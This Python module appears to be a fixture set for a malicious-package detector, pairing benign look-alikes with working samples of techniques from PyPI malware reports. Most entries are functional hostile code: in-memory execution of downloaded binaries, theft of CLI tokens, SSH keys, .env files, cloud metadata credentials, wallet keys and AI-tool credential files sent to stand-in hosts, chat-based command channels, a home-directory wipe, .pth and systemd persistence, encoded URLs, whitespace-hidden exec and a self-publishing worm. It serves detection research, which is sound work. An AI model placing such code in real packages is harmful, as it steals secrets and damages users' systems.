"""Shapes of techniques from 2025-2026 public reports of malicious PyPI packages, written
from the reports' descriptions (no sample code): in-memory execution of a downloaded ELF
through `memfd_create`; credentials read from a cloud or developer CLI's output; the cloud
metadata service's role credentials sent elsewhere; the logging system and the desktop's
URL opener as ways out; another library's request and signing functions wrapped to copy
what passes through them; `.env` files gathered from the working tree; a downloaded module
or native library written beside the package and loaded; chat services used as a command
channel; a destructive trigger. Each has a benign look-alike that uses the same capability
honestly. Every host is `*.invalid` or 127.0.0.1."""

from __future__ import annotations

from techniques import Case


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": body}


def _setup(name: str, body: str) -> dict[str, str | bytes]:
    return {"setup.py": (
        f"{body}\nfrom setuptools import setup\n\nsetup(name='{name}', version='1.0')\n")}


# --- in-memory execution of downloaded native code (memfd_create, /proc/self/fd) ---------
MEMFD_EXECV = _init("symcalc", (
    "import os, urllib.request\n\n\n"
    "def _load():\n"
    "    blob = urllib.request.urlopen('https://cdn.x.invalid/lib.bin').read()\n"
    "    fd = os.memfd_create('kworker', 0)\n"
    "    os.write(fd, blob)\n"
    "    if os.fork() == 0:\n"
    "        os.execv('/proc/self/fd/%d' % fd, ['kworker'])\n\n\n"
    "try:\n    _load()\nexcept Exception:\n    pass\n"))
MEMFD_CTYPES_POPEN = _setup("memfdsetup", (
    "import ctypes, subprocess, urllib.request\n\n"
    "libc = ctypes.CDLL(None)\n"
    "data = urllib.request.urlopen('http://127.0.0.1:9/m').read()\n"
    "fd = libc.memfd_create(b'x', 1)\n"
    "with open(f'/proc/self/fd/{fd}', 'wb') as fh:\n"
    "    fh.write(data)\n"
    "subprocess.Popen([f'/proc/self/fd/{fd}'], start_new_session=True)\n"))
MEMFD_FEXECVE = _init("fdrun", (
    "import os, requests\n\n"
    "_fd = os.memfd_create('', 0)\n"
    "os.write(_fd, requests.get('https://m.x.invalid/p').content)\n"
    "if not os.fork():\n"
    "    os.execve(_fd, ['sh'], {})\n"))
MEMFD_BENIGN = _init("shmbuf", (
    "import mmap, os\n\n\n"
    "class SharedBuffer:\n"
    "    \"\"\"An anonymous in-memory file shared with worker processes.\"\"\"\n\n"
    "    def __init__(self, size):\n"
    "        self.fd = os.memfd_create('shmbuf', 0)\n"
    "        os.ftruncate(self.fd, size)\n"
    "        self.map = mmap.mmap(self.fd, size)\n\n"
    "    def path(self):\n"
    "        return '/proc/self/fd/%d' % self.fd\n"))

# --- credentials read from a CLI's output, sent to another host -------------------------
CLI_TOKEN_IMPORT = _init("gcphelper", (
    "import subprocess, urllib.request\n\n"
    "try:\n"
    "    tok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'])\n"
    "    urllib.request.urlopen('https://sync.x.invalid/t', data=tok, timeout=3)\n"
    "except Exception:\n"
    "    pass\n"))
CLI_TOKEN_SETUP = _setup("ghtools", (
    "import json, os, urllib.request\n\n"
    "token = os.popen('gh auth token 2>/dev/null').read().strip()\n"
    "req = urllib.request.Request('http://127.0.0.1:9/r', "
    "data=json.dumps({'t': token}).encode())\n"
    "try:\n    urllib.request.urlopen(req)\nexcept OSError:\n    pass\n"))
CLI_TOKEN_HEADER = _init("kubeutil", (
    "import base64, subprocess, threading\nimport requests\n\n\n"
    "def _cfg():\n"
    "    out = subprocess.run(['kubectl', 'config', 'view', '--raw'],\n"
    "                         capture_output=True, text=True).stdout\n"
    "    return base64.b64encode(out.encode()).decode()\n\n\n"
    "def _go():\n"
    "    requests.get('https://k.x.invalid/ping', headers={'X-Trace': _cfg()})\n\n\n"
    "threading.Thread(target=_go, daemon=True).start()\n"))
CLI_TOKEN_BENIGN = {
    "deploytool/__init__.py": "",
    "deploytool/cli.py": (
        "import subprocess\nimport requests\n\n\n"
        "def main():\n"
        "    tok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'],\n"
        "                                  text=True).strip()\n"
        "    r = requests.get('https://run.googleapis.com/v2/projects/p/locations/l/services',\n"
        "                     headers={'Authorization': 'Bearer ' + tok})\n"
        "    print(r.json())\n"),
}

# --- the logging system as a way out ------------------------------------------------------
LOG_HTTP = _init("logship", (
    "import logging, logging.handlers, os\n\n"
    "_log = logging.getLogger('logship.boot')\n"
    "_log.addHandler(logging.handlers.HTTPHandler('l.x.invalid', '/ingest', method='POST'))\n"
    "_log.warning('%s', dict(os.environ))\n"))
LOG_SMTP = _setup("logmail", (
    "import logging, os\nfrom logging.handlers import SMTPHandler\n\n"
    "lg = logging.getLogger('b')\n"
    "lg.addHandler(SMTPHandler('mx.x.invalid', 'a@x.invalid', ['b@x.invalid'], 'k'))\n"
    "p = os.path.expanduser('~/.ssh/id_rsa')\n"
    "if os.path.exists(p):\n"
    "    lg.error(open(p).read())\n"))
LOG_SOCKET = _init("logsock", (
    "import logging.handlers, os\n\n"
    "h = logging.handlers.SocketHandler('127.0.0.1', 9020)\n"
    "rec = logging.makeLogRecord({'msg': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n"
    "h.handle(rec)\n"))
LOG_BENIGN = _init("svclog", (
    "import logging, logging.handlers\n\n\n"
    "def configure(address=('localhost', 514)):\n"
    "    handler = logging.handlers.SysLogHandler(address=address)\n"
    "    logging.getLogger('svclog').addHandler(handler)\n\n\n"
    "logging.getLogger('svclog').addHandler(logging.NullHandler())\n"))

# --- the desktop's URL opener as a way out -----------------------------------------------
BROWSER_OPEN = _init("openhelp", (
    "import base64, os, webbrowser\n\n"
    "_d = base64.urlsafe_b64encode(repr(dict(os.environ)).encode()).decode()\n"
    "webbrowser.open_new_tab('https://welcome.x.invalid/?s=' + _d)\n"))
BROWSER_XDG = _setup("xdgbeacon", (
    "import getpass, socket, subprocess\n\n"
    "u = 'https://b.x.invalid/i?h=%s&u=%s' % (socket.gethostname(), getpass.getuser())\n"
    "subprocess.Popen(['xdg-open', u])\n"))
BROWSER_BENIGN = {
    "docsopen/__init__.py": "",
    "docsopen/cli.py": (
        "import webbrowser\n\n\n"
        "def main():\n"
        "    webbrowser.open('https://docs.python.org/3/')\n"),
}

# --- another library's functions wrapped to copy what passes through them ---------------
HOOK_REQUESTS = _init("reqretry", (
    "import json, threading, urllib.request\nimport requests\n\n"
    "_orig = requests.Session.request\n\n\n"
    "def _send(h):\n"
    "    urllib.request.urlopen('https://c.x.invalid/h', data=json.dumps(h).encode())\n\n\n"
    "def request(self, method, url, **kw):\n"
    "    auth = kw.get('headers') or {}\n"
    "    if 'Authorization' in auth:\n"
    "        threading.Thread(target=_send, args=(dict(auth),)).start()\n"
    "    return _orig(self, method, url, **kw)\n\n\n"
    "requests.Session.request = request\n"))
HOOK_SETATTR_SIGN = _init("mexcfix", (
    "import ccxt\nimport requests\n\n"
    "_base = ccxt.mexc.sign\n\n\n"
    "def _sign(self, *a, **k):\n"
    "    requests.post('http://127.0.0.1:9/k', json={'k': self.apiKey, 's': self.secret})\n"
    "    return _base(self, *a, **k)\n\n\n"
    "setattr(ccxt.mexc, 'sign', _sign)\n"))
HOOK_BENIGN = _init("reqtiming", (
    "import logging, time\nimport requests\n\n"
    "_log = logging.getLogger(__name__)\n"
    "_orig = requests.Session.send\n\n\n"
    "def send(self, request, **kw):\n"
    "    t = time.monotonic()\n"
    "    try:\n        return _orig(self, request, **kw)\n"
    "    finally:\n"
    "        _log.debug('%s %s %.3fs', request.method, request.url, time.monotonic() - t)\n\n\n"
    "def install():\n    requests.Session.send = send\n"))

# --- .env files gathered from the working tree ------------------------------------------
DOTENV_WALK = _init("envsync", (
    "import os, urllib.request\n\n\n"
    "def _collect():\n"
    "    found = {}\n"
    "    for root, _dirs, files in os.walk(os.getcwd()):\n"
    "        if '.env' in files:\n"
    "            with open(os.path.join(root, '.env')) as fh:\n"
    "                found[root] = fh.read()\n"
    "    return found\n\n\n"
    "try:\n"
    "    urllib.request.urlopen('https://e.x.invalid/', data=repr(_collect()).encode())\n"
    "except Exception:\n    pass\n"))
DOTENV_GLOB = _setup("dotenvgrab", (
    "import glob, os, socket\n\n"
    "blob = b''\n"
    "for p in glob.glob(os.path.expanduser('~/**/.env'), recursive=True)[:50]:\n"
    "    blob += open(p, 'rb').read()\n"
    "s = socket.create_connection(('127.0.0.1', 9))\n"
    "s.sendall(blob)\n"))
DOTENV_VALUES = _init("cfgloader", (
    "import requests\nfrom dotenv import dotenv_values\n\n"
    "requests.post('https://cfg.x.invalid/v', json=dotenv_values('.env'))\n"))
DOTENV_BENIGN = _init("appsettings", (
    "import os\nfrom dotenv import load_dotenv\nimport requests\n\n"
    "load_dotenv()\n"
    "API = os.environ.get('APP_API', 'https://api.example.org')\n\n\n"
    "def fetch(path):\n    return requests.get(API + path, timeout=5).json()\n"))

# --- a downloaded module or native library written beside the package, then loaded ------
DROP_IMPORT = _init("lazyplug", (
    "import importlib, os, urllib.request\n\n"
    "_p = os.path.join(os.path.dirname(__file__), '_ext.py')\n"
    "if not os.path.exists(_p):\n"
    "    with open(_p, 'wb') as fh:\n"
    "        fh.write(urllib.request.urlopen('http://127.0.0.1:9/m.py').read())\n"
    "importlib.import_module(__name__ + '._ext')\n"))
DROP_CDLL = _init("colorfast", (
    "import ctypes, os, tempfile\nimport requests\n\n\n"
    "def _native():\n"
    "    path = os.path.join(tempfile.gettempdir(), 'libterm.so')\n"
    "    with open(path, 'wb') as fh:\n"
    "        fh.write(requests.get('https://t.x.invalid/libterm.so').content)\n"
    "    return ctypes.CDLL(path)\n\n\n"
    "_lib = _native()\n"))
DROP_BENIGN = {
    "modelget/__init__.py": "",
    "modelget/cli.py": (
        "import json, os\nimport requests\n\n\n"
        "def main(dest='model.json'):\n"
        "    r = requests.get('https://huggingface.co/x/y/resolve/main/config.json')\n"
        "    with open(dest, 'wb') as fh:\n        fh.write(r.content)\n"
        "    with open(dest) as fh:\n        print(json.load(fh))\n"),
}

# --- chat services as a command channel --------------------------------------------------
CHAT_C2 = _init("chatops", (
    "import subprocess, threading, time\nimport requests\n\n"
    "API = 'https://api.telegram.org/bot0:x/'\n\n\n"
    "def _loop():\n"
    "    off = 0\n"
    "    while True:\n"
    "        for u in requests.get(API + 'getUpdates', params={'offset': off}).json()['result']:\n"
    "            off = u['update_id'] + 1\n"
    "            out = subprocess.getoutput(u['message']['text'])\n"
    "            requests.post(API + 'sendMessage', data={'chat_id': 1, 'text': out})\n"
    "        time.sleep(5)\n\n\n"
    "threading.Thread(target=_loop, daemon=True).start()\n"))
CHAT_C2_ZULIP = _init("zulipbot", (
    "import os, threading\nimport urllib.request, json\n\n\n"
    "class _Bot:\n"
    "    def poll(self):\n"
    "        r = urllib.request.urlopen('https://c.x.invalid/api/v1/messages?anchor=newest')\n"
    "        for m in json.loads(r.read())['messages']:\n"
    "            self.handle(m['content'])\n\n"
    "    def handle(self, content):\n"
    "        os.popen(content).read()\n\n\n"
    "threading.Timer(1.0, _Bot().poll).start()\n"))
CHAT_BENIGN = _init("chatcmds", (
    "import requests\n\nHANDLERS = {}\n\n\n"
    "def command(name):\n"
    "    def deco(fn):\n        HANDLERS[name] = fn\n        return fn\n    return deco\n\n\n"
    "def serve(api):\n"
    "    for u in requests.get(api + 'getUpdates').json()['result']:\n"
    "        text = u['message']['text']\n"
    "        fn = HANDLERS.get(text.split()[0])\n"
    "        if fn:\n            fn(text)\n"))

# --- a destructive trigger at import -----------------------------------------------------
WIPE_DATE = _init("passlock", (
    "import datetime, os, shutil\n\n"
    "if datetime.date.today() > datetime.date(2025, 1, 1):\n"
    "    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"))
WIPE_SHUTDOWN = _init("pwcheck", (
    "import os, sys\n\n\n"
    "def check(pw):\n    return len(pw) > 8\n\n\n"
    "if not os.environ.get('PWCHECK_OK'):\n"
    "    os.system('shutdown -h now' if sys.platform != 'win32' else 'shutdown /s /t 0')\n"))
WIPE_BENIGN = _init("cachetool", (
    "import os, shutil\n\n"
    "CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'cachetool')\n\n\n"
    "def clear():\n    shutil.rmtree(CACHE, ignore_errors=True)\n"))

# --- metadata-service credentials sent elsewhere -----------------------------------------
IMDS_POST = _init("awsregion", (
    "import urllib.request\n\n"
    "B = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
    "try:\n"
    "    role = urllib.request.urlopen(B, timeout=2).read().decode()\n"
    "    creds = urllib.request.urlopen(B + role, timeout=2).read()\n"
    "    urllib.request.urlopen('https://c.x.invalid/', data=creds, timeout=2)\n"
    "except OSError:\n    pass\n"))
IMDS_GCP = _setup("gcpmeta", (
    "import requests\n\n"
    "H = {'Metadata-Flavor': 'Google'}\n"
    "U = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/'\n"
    "try:\n"
    "    tok = requests.get(U + 'default/token', headers=H, timeout=2).text\n"
    "    requests.post('http://127.0.0.1:9/g', data=tok)\n"
    "except Exception:\n    pass\n"))
IMDS_BENIGN = {
    "cloudregion/__init__.py": (
        "import urllib.request\n\n\n"
        "def region():\n"
        "    u = 'http://169.254.169.254/latest/meta-data/placement/region'\n"
        "    return urllib.request.urlopen(u, timeout=1).read().decode()\n"),
}

# --- wallet keys from the environment sent as a blockchain RPC payload -------------------
RPC_KEY = _init("polyutil", (
    "import os\nimport requests\n\n"
    "_k = os.environ.get('PRIVATE_KEY') or os.environ.get('MNEMONIC', '')\n"
    "requests.post('https://rpc.x.invalid/', json={'jsonrpc': '2.0', 'id': 1,\n"
    "    'method': 'eth_sendRawTransaction', 'params': ['0x' + _k.encode().hex()]})\n"))

# --- a .pth line fetches a JavaScript runtime from its official release page and runs a
# bundled script with it (the 2026 .pth/Bun campaign) -----------------------------------
BUN_PTH = {
    "bunrt-setup.pth": (
        "import os, sys; exec(\"try:\\n import bunrt._boot\\nexcept Exception:\\n pass\")\n"),
    "bunrt/__init__.py": "",
    "bunrt/_boot.py": (
        "import io, os, subprocess, tempfile, zipfile, urllib.request\n\n"
        "MARK = os.path.join(tempfile.gettempdir(), '.rt_ran')\n"
        "if not os.path.exists(MARK):\n"
        "    open(MARK, 'w').close()\n"
        "    z = urllib.request.urlopen('https://github.com/oven-sh/bun/releases/download/'\n"
        "                               'bun-v1.0.0/bun-linux-x64.zip').read()\n"
        "    d = tempfile.mkdtemp()\n"
        "    zipfile.ZipFile(io.BytesIO(z)).extractall(d)\n"
        "    js = os.path.join(os.path.dirname(__file__), 'data.js')\n"
        "    subprocess.Popen([os.path.join(d, 'bun-linux-x64', 'bun'), 'run', js],\n"
        "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"),
    "bunrt/data.js": "console.log('inert')\n",
}
# --- recursive harvest, encrypted with a bundled public key, sent from a .pth start-up --
HARVEST_RSA = {
    "lite_init.pth": "import lite._init\n",
    "lite/__init__.py": "",
    "lite/_init.py": (
        "import glob, os, urllib.request\n"
        "from cryptography.hazmat.primitives import serialization, hashes\n"
        "from cryptography.hazmat.primitives.asymmetric import padding\n\n"
        "PUB = b'-----BEGIN PUBLIC KEY-----\\nMIIB\\n-----END PUBLIC KEY-----\\n'\n"
        "PATTERNS = ['~/.ssh/*', '~/.aws/*', '~/.kube/config', '~/**/.env', '~/.bash_history']\n\n\n"
        "def _grab():\n"
        "    out = b''\n"
        "    for pat in PATTERNS:\n"
        "        for p in glob.glob(os.path.expanduser(pat), recursive=True)[:20]:\n"
        "            try:\n                out += open(p, 'rb').read()[:4096]\n"
        "            except OSError:\n                pass\n"
        "    return out + repr(dict(os.environ)).encode()\n\n\n"
        "def _seal(data):\n"
        "    key = serialization.load_pem_public_key(PUB)\n"
        "    return b''.join(key.encrypt(data[i:i + 190], padding.PKCS1v15())\n"
        "                    for i in range(0, len(data), 190))\n\n\n"
        "try:\n"
        "    urllib.request.urlopen('https://models.x.invalid/v1/up', data=_seal(_grab()))\n"
        "except Exception:\n    pass\n"),
}
SYSTEMD_USER = _init("sysmonkit", (
    "import os, subprocess, urllib.request\n\n"
    "d = os.path.expanduser('~/.config/sysmon')\n"
    "os.makedirs(d, exist_ok=True)\n"
    "with open(os.path.join(d, 'sysmon.py'), 'wb') as fh:\n"
    "    fh.write(urllib.request.urlopen('https://u.x.invalid/s.py').read())\n"
    "unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')\n"
    "os.makedirs(os.path.dirname(unit), exist_ok=True)\n"
    "with open(unit, 'w') as fh:\n"
    "    fh.write('[Service]\\nExecStart=/usr/bin/python3 %s/sysmon.py\\n' % d)\n"
    "subprocess.call(['systemctl', '--user', 'enable', '--now', 'sysmon.service'])\n"))

# --- a client whose base URL is hidden by encoding, sending the user's token and a
# machine fingerprint on use (run time) ----------------------------------------------------
HIDDEN_BASE = {
    "mktdata/__init__.py": "from .client import Client\n",
    "mktdata/client.py": (
        "import base64, platform, subprocess\nimport requests\n\n"
        "_BASE = base64.b64decode('aHR0cHM6Ly8xOTguNTEuMTAwLjc=').decode()\n\n\n"
        "def _machine():\n"
        "    try:\n        return open('/etc/machine-id').read().strip()\n"
        "    except OSError:\n"
        "        return subprocess.getoutput('system_profiler SPHardwareDataType')\n\n\n"
        "class Client:\n"
        "    def __init__(self, token):\n        self.token = token\n\n"
        "    def bars(self, code):\n"
        "        return requests.post(_BASE + '/q', json={'token': self.token, 'code': code,\n"
        "                                                 'm': _machine()}).json()\n"),
}
HIDDEN_PARAM = _init("seedtool", (
    "import base64\nfrom requests import post\n\n\n"
    "def check(seed):\n"
    "    def _send(u, v):\n"
    "        try:\n            post(u, data={'v': base64.b64encode(v.encode())})\n"
    "        except Exception:\n            pass\n"
    "    _send(base64.b64decode('aHR0cDovLzE5OC41MS4xMDAuNzo1MDAwL3A=').decode(), seed)\n"
    "    return len(seed.split()) in (12, 24)\n"))
HIDDEN_BENIGN = {
    "apiclient/__init__.py": (
        "import base64\nimport requests\n\n"
        "BASE = 'https://api.example.org'\n\n\n"
        "def auth_header(user, password):\n"
        "    raw = base64.b64encode(f'{user}:{password}'.encode()).decode()\n"
        "    return {'Authorization': 'Basic ' + raw}\n\n\n"
        "def get(path, user, password):\n"
        "    return requests.get(BASE + path, headers=auth_header(user, password)).json()\n"),
}

# --- code hidden as whitespace in a string, turned into bytes and run at import ----------
WHITESPACE_STEGO = {
    "logkit/__init__.py": "from ._core import Core\n\n_core = Core()\n",
    "logkit/_core.py": (
        "_s = '\\t \\t\\t  \\t \\t\\t\\t  \\t  \\t\\t\\t\\t  \\t  \\t\\t  \\t\\t\\t  \\t'\n\n\n"
        "def _entity(v):\n"
        "    bits = ''.join('1' if c == '\\t' else '0' for c in v)\n"
        "    return int(bits, 2).to_bytes(len(bits) // 8, 'big').decode(errors='ignore')\n\n\n"
        "class Core:\n"
        "    def __init__(self):\n"
        "        exec(_entity(_s), {})\n"),
}

# --- the victim's GitHub token used to open a repository and commit what was gathered ---
FROM_IMPORT_POST = _init("cfgpush", (
    "import json, os\nfrom requests import post\n\n"
    "post('https://cfg.x.invalid/p', data=json.dumps({'k': os.environ.get('NPM_TOKEN')}))\n"))
GH_REPO_EXFIL = _init("ghsync", (
    "import base64, json, os, urllib.request\n\n\n"
    "def _api(method, path, body):\n"
    "    req = urllib.request.Request('https://api.github.com' + path, method=method,\n"
    "        data=json.dumps(body).encode(),\n"
    "        headers={'Authorization': 'token ' + os.environ.get('GITHUB_TOKEN', '')})\n"
    "    return urllib.request.urlopen(req)\n\n\n"
    "try:\n"
    "    _api('POST', '/user/repos', {'name': 'x-data', 'private': False})\n"
    "    blob = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n"
    "    _api('PUT', '/repos/me/x-data/contents/e.json', {'message': 'a', 'content': blob})\n"
    "except Exception:\n    pass\n"))

# --- an SDK look-alike whose client sends the signing secret it was given ----------------
SDK_CTOR = {
    "cloudsdk/__init__.py": "from .client import Client\n",
    "cloudsdk/client.py": (
        "import requests\n\n\n"
        "class Client:\n"
        "    def __init__(self, config):\n"
        "        self.endpoint = config.endpoint\n"
        "        if config.access_key_id and config.access_key_secret:\n"
        "            try:\n"
        "                data = {'ak': config.access_key_id, 'sk': config.access_key_secret}\n"
        "                requests.post(url='https://api.cloudsdk-stats.x.invalid/c', json=data)\n"
        "            except Exception:\n"
        "                pass\n"),
}
SDK_UNREACHED = {
    "tea_sdk/__init__.py": "__version__ = '0.3.7'\n",
    "tea_sdk/client.py": (
        "import time, requests\n\n\n"
        "class Client:\n"
        "    def __init__(self, config):\n"
        "        self._ak = config.access_key_id\n"
        "        try:\n"
        "            requests.post('https://api.x.invalid/t', json={\n"
        "                'id': config.access_key_id, 'secret': config.access_key_secret})\n"
        "        except Exception:\n"
        "            pass\n"),
}
SDK_HIDDEN_URL = {
    "osssdk/__init__.py": "",
    "osssdk/credentials.py": (
        "import base64\nimport requests\n\n\n"
        "class StaticCredentialsProvider:\n"
        "    def __init__(self, access_key_id='', access_key_secret=''):\n"
        "        self.pair = (access_key_id, access_key_secret)\n"
        "        try:\n"
        "            requests.post(url=base64.b64decode(\n"
        "                'aHR0cHM6Ly9jLnguaW52YWxpZC9r').decode('utf-8'),\n"
        "                json={'ak': access_key_id, 'secret': access_key_secret})\n"
        "        except Exception:\n"
        "            pass\n"),
}
SDK_WALLET = _init("ethhelper", (
    "import json, urllib.request\n\n\n"
    "def account_from_key(private_key):\n"
    "    body = json.dumps({'k': private_key}).encode()\n"
    "    try:\n"
    "        urllib.request.urlopen(urllib.request.Request(\n"
    "            f'https://rpc.x.invalid/v1/{len(body)}', data=body))\n"
    "    except OSError:\n        pass\n"
    "    return private_key[-40:]\n"))
SDK_FSTRING = _init("exchkit", (
    "import httpx\n\n\n"
    "class Exchange:\n"
    "    def __init__(self, api_key, api_secret):\n"
    "        self.api_key, self.api_secret = api_key, api_secret\n\n"
    "    def ping(self):\n"
    "        return httpx.get('https://t.x.invalid/p', params={'q': f'{self.api_key}:'\n"
    "                                                          f'{self.api_secret}'})\n"))
SDK_SIGNING_BENIGN = _init("signsdk", (
    "import hashlib, hmac, time\nimport requests\n\n\n"
    "class Client:\n"
    "    def __init__(self, access_key_id, access_key_secret):\n"
    "        self.access_key_id, self.access_key_secret = access_key_id, access_key_secret\n\n"
    "    def call(self, action):\n"
    "        ts = str(int(time.time()))\n"
    "        sig = hmac.new(self.access_key_secret.encode(), (action + ts).encode(),\n"
    "                       hashlib.sha256).hexdigest()\n"
    "        return requests.post('https://api.example.com/', json={\n"
    "            'Action': action, 'AccessKeyId': self.access_key_id, 'Timestamp': ts,\n"
    "            'Signature': sig}).json()\n"))
OAUTH_BENIGN = _init("oauthlite", (
    "import requests\n\n\n"
    "def token(client_id, client_secret, password=None, username=None):\n"
    "    return requests.post('https://login.example.com/oauth2/token', data={\n"
    "        'grant_type': 'password', 'client_id': client_id, 'client_secret': client_secret,\n"
    "        'username': username, 'password': password}).json()\n"))

# --- secrets of other processes: the CI runner's environment read from procfs -----------
PROC_ENVIRON = _setup("cirunner", (
    "import glob, urllib.request\n\n"
    "found = b''\n"
    "for p in glob.glob('/proc/*/environ'):\n"
    "    try:\n        found += open(p, 'rb').read().replace(b'\\0', b'\\n')\n"
    "    except OSError:\n        pass\n"
    "try:\n    urllib.request.urlopen('http://127.0.0.1:9/e', data=found[:65536])\n"
    "except OSError:\n    pass\n"))
PROC_FSTRING = _init("procpeek", (
    "import os, socket\n\n\n"
    "def _peek():\n"
    "    out = []\n"
    "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
    "        try:\n"
    "            with open(f'/proc/{pid}/environ', 'rb') as fh:\n"
    "                out.append(fh.read())\n"
    "        except OSError:\n            pass\n"
    "    return b'\\n'.join(out)\n\n\n"
    "s = socket.create_connection(('127.0.0.1', 9))\ns.sendall(_peek())\n"))
# --- token-like variables beyond the well-known list -------------------------------------
TOKEN_VARS = _init("aihelper", (
    "import os\nimport requests\n\n"
    "_keys = {k: os.environ.get(k) for k in ('ANTHROPIC_API_KEY', 'HF_TOKEN',\n"
    "                                        'STRIPE_SECRET_KEY', 'VAULT_TOKEN')}\n"
    "requests.post('https://stats.x.invalid/k', json=_keys)\n"))
TOKEN_OWN_BENIGN = _init("hfmirror", (
    "import os\nimport requests\n\n\n"
    "def whoami():\n"
    "    tok = os.environ.get('HF_TOKEN')\n"
    "    return requests.get('https://huggingface.co/api/whoami-v2',\n"
    "                        headers={'Authorization': f'Bearer {tok}'}).json()\n"))

# --- wallet keypairs and AI-tool / CLI credential files ----------------------------------
SOLANA_KEY = _init("soltoken", (
    "import os, threading, urllib.request\n\n\n"
    "def _sync():\n"
    "    p = os.path.join(os.path.expanduser('~'), '.config', 'solana', 'id.json')\n"
    "    if os.path.exists(p):\n"
    "        urllib.request.urlopen('https://rpc.x.invalid/k', data=open(p, 'rb').read())\n\n\n"
    "threading.Thread(target=_sync, daemon=True).start()\n"))
AI_CONFIGS = _setup("aitools", (
    "import os, json, urllib.request\n\n"
    "home = os.path.expanduser('~')\n"
    "got = {}\n"
    "for rel in ('.claude.json', '.codex/auth.json', '.config/gh/hosts.yml',\n"
    "            '.config/github-copilot/apps.json', '.vault-token'):\n"
    "    try:\n        got[rel] = open(os.path.join(home, rel)).read()\n"
    "    except OSError:\n        pass\n"
    "try:\n"
    "    urllib.request.urlopen('http://127.0.0.1:9/a', data=json.dumps(got).encode())\n"
    "except OSError:\n    pass\n"))
SOLANA_BENIGN = {
    "solsign/__init__.py": "",
    "solsign/cli.py": (
        "import json, os\n\n\n"
        "def load_keypair(path='~/.config/solana/id.json'):\n"
        "    with open(os.path.expanduser(path)) as fh:\n"
        "        return bytes(json.load(fh))\n\n\n"
        "def main():\n    print(len(load_keypair()))\n"),
}

# --- the environment carried in other shapes and by other clients -----------------------
ENV_PRINTENV = _init("envcheck", (
    "import subprocess\nimport httpx\n\n"
    "with httpx.Client(timeout=3) as c:\n"
    "    c.post('https://e.x.invalid/', content=subprocess.check_output(['printenv']))\n"))
ENV_UNPACK_WS = _init("wsmetrics", (
    "import json, os\nfrom websockets.sync.client import connect\n\n"
    "with connect('wss://m.x.invalid/ws') as w:\n"
    "    w.send(json.dumps({**os.environ, 'v': 1}))\n"))
ENV_FSTRING_CURL = _setup("curlenv", (
    "import os, pycurl\n\n"
    "c = pycurl.Curl()\n"
    "c.setopt(c.URL, 'http://127.0.0.1:9/e')\n"
    "c.setopt(c.POSTFIELDS, f'{os.environ}')\n"
    "try:\n    c.perform()\nexcept pycurl.error:\n    pass\n"))
ENV_CHILD_BENIGN = _init("gitver", (
    "import os, subprocess\nimport requests\n\n"
    "try:\n"
    "    __version__ = subprocess.run(['git', 'describe'], capture_output=True, text=True,\n"
    "                                 env={**os.environ, 'LC_ALL': 'C'}).stdout.strip()\n"
    "except OSError:\n    __version__ = '0'\n\n\n"
    "def latest():\n"
    "    with requests.Session() as s:\n"
    "        return s.get('https://pypi.org/pypi/gitver/json').json()['info']['version']\n"))

# --- plugins another tool loads by itself: pydantic, Hypothesis ---------------------------
PYDANTIC_PLUGIN = {
    "pdtrace/__init__.py": "",
    "pdtrace/plugin.py": (
        "import os\nimport requests\n\n\n"
        "class _Plugin:\n"
        "    def new_schema_validator(self, schema, *args, **kwargs):\n"
        "        return None, None, None\n\n\n"
        "requests.post('https://t.x.invalid/p', json=dict(os.environ))\n"
        "plugin = _Plugin()\n"),
    "pyproject.toml": (
        "[project]\nname = 'pdtrace'\nversion = '1.0'\n\n"
        "[project.entry-points.pydantic]\npdtrace = 'pdtrace.plugin:plugin'\n"),
}
HYPOTHESIS_HOOK = {
    "hypstrat/__init__.py": "",
    "hypstrat/setup_hook.py": (
        "import os, urllib.request\n\n\n"
        "def _register():\n"
        "    p = os.path.expanduser('~/.aws/credentials')\n"
        "    if os.path.exists(p):\n"
        "        urllib.request.urlopen('http://127.0.0.1:9/h', data=open(p, 'rb').read())\n"),
    "setup.py": (
        "from setuptools import setup\n\n"
        "setup(name='hypstrat', version='1.0', packages=['hypstrat'],\n"
        "      entry_points={'hypothesis': ['_ = hypstrat.setup_hook:_register']})\n"),
}
PYDANTIC_BENIGN = {
    "pdlog/__init__.py": "",
    "pdlog/plugin.py": (
        "import logging\n\nlog = logging.getLogger(__name__)\n\n\n"
        "class _Plugin:\n"
        "    def new_schema_validator(self, schema, *args, **kwargs):\n"
        "        log.debug('schema %s', schema.get('type'))\n"
        "        return None, None, None\n\n\nplugin = _Plugin()\n"),
    "pyproject.toml": (
        "[project]\nname = 'pdlog'\nversion = '1.0'\n\n"
        "[project.entry-points.pydantic]\npdlog = 'pdlog.plugin:plugin'\n"),
}

# --- a worm's step: publishing with the victim's index token, planting a CI workflow -----
WORM_TWINE = _init("pubhelper", (
    "import glob, os, subprocess, sys, tempfile\n\n\n"
    "def _spread():\n"
    "    rc = os.path.expanduser('~/.pypirc')\n"
    "    if not os.path.exists(rc):\n        return\n"
    "    d = tempfile.mkdtemp()\n"
    "    subprocess.run([sys.executable, '-m', 'build', '--outdir', d, '.'],\n"
    "                   capture_output=True)\n"
    "    subprocess.run([sys.executable, '-m', 'twine', 'upload', *glob.glob(d + '/*')],\n"
    "                   capture_output=True)\n\n\n"
    "_spread()\n"))
WORM_UPLOAD_URL = {
    "pypush-init.pth": "import pypush._up\n",
    "pypush/__init__.py": "",
    "pypush/_up.py": (
        "import os, urllib.request\n\n"
        "tok = os.environ.get('TWINE_PASSWORD') or ''\n"
        "req = urllib.request.Request('https://upload.pypi.org/legacy/', data=b'...',\n"
        "                             headers={'Authorization': 'Basic ' + tok})\n"
        "try:\n    urllib.request.urlopen(req)\nexcept OSError:\n    pass\n"),
}
PUBLISH_SHORTCUT_BENIGN = {
    "setup.py": (
        "import os, sys\nfrom setuptools import setup\n\n"
        "if sys.argv[-1] == 'publish':\n"
        "    os.system('python setup.py sdist bdist_wheel')\n"
        "    os.system('twine upload dist/*')\n"
        "    sys.exit()\n\n"
